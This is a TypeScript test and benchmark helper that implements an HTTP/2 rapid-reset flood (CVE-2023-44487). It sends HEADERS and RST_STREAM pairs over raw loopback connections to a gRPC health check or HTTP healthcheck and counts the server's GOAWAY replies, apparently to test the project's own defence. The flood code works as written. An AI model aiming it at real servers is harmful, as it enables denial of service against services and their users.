/**
 * A rapid-reset client (CVE-2023-44487), for the rapid-reset test and bench/rapid-reset.ts: raw connections
 * (node:net, HTTP/2 frames written by hand, loopback only) each sending pairs of HEADERS + RST_STREAM (CANCEL)
 * as fast as the socket takes them, ignoring the stream limit, until the server ends the connection or the pairs
 * run out. It counts the GOAWAYs (by error code) and the connections the server closed.
 */
import { connect } from "node:net";
import { FLAG, FRAME, frame, HEALTH_CHECK_PATH, hpack, PREFACE, readFrames } from "./idle-streams.js";

export interface WaveCounts {
  /** Streams written (HEADERS + RST_STREAM pairs) before the server closed the connection or they ran out. */
  sent: number;
  goaways: Record<string, number>;
  answered: number;
  closedByServer: number;
}

export function newWaveCounts(): WaveCounts {
  return { sent: 0, goaways: {}, answered: 0, closedByServer: 0 };
}

/**
 * One connection of a wave, sending `streams` pairs: on the gRPC port to grpc.health.v1.Health/Check, or with
 * `http` to the HTTP port's GET /healthcheck (h2c). Resolves once the server has closed it, or `graceMs` after
 * its last pair went out (then closed here).
 */
export function resetFlood(port: number, streams: number, counts: WaveCounts, http = false, graceMs = 2000): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    const block = hpack(
      http
        ? [
            [":method", "GET"],
            [":scheme", "http"],
            [":path", "/healthcheck"],
            [":authority", `127.0.0.1:${port}`],
          ]
        : [
            [":method", "POST"],
            [":scheme", "http"],
            [":path", HEALTH_CHECK_PATH],
            [":authority", `127.0.0.1:${port}`],
            ["content-type", "application/grpc"],
            ["te", "trailers"],
          ],
    );
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(8); // CANCEL
    let closed = false;
    socket.on("error", () => {});
    readFrames(socket, ({ type, flags, payload }) => {
      if (type === FRAME.SETTINGS && (flags & FLAG.ACK) === 0) socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0, Buffer.alloc(0)));
      else if (type === FRAME.PING && (flags & FLAG.ACK) === 0) socket.write(frame(FRAME.PING, FLAG.ACK, 0, payload));
      else if (type === FRAME.HEADERS) counts.answered++;
      else if (type === FRAME.GOAWAY) {
        // After the last stream ID: the error code.
        const code = String(payload.readUInt32BE(4));
        counts.goaways[code] = (counts.goaways[code] ?? 0) + 1;
      }
    });
    socket.on("close", () => {
      closed = true;
      counts.closedByServer++;
      resolve();
    });
    socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
    // In batches of 100 pairs, each written once the socket takes the last: as fast as the server reads.
    let id = 1;
    const more = (): void => {
      if (closed) return;
      if (id >= 2 * streams) {
        setTimeout(() => {
          if (!closed) {
            counts.closedByServer--; // closed here, not by the server
            socket.destroy();
          }
        }, graceMs).unref();
        return;
      }
      const frames: Buffer[] = [];
      for (let i = 0; i < 100 && id < 2 * streams; i++, id += 2) {
        const flags = http ? FLAG.END_HEADERS | FLAG.END_STREAM : FLAG.END_HEADERS; // a GET ends with its headers
        frames.push(frame(FRAME.HEADERS, flags, id, block), frame(FRAME.RST_STREAM, 0, id, cancel));
        counts.sent++;
      }
      socket.write(Buffer.concat(frames), more);
    };
    more();
  });
}
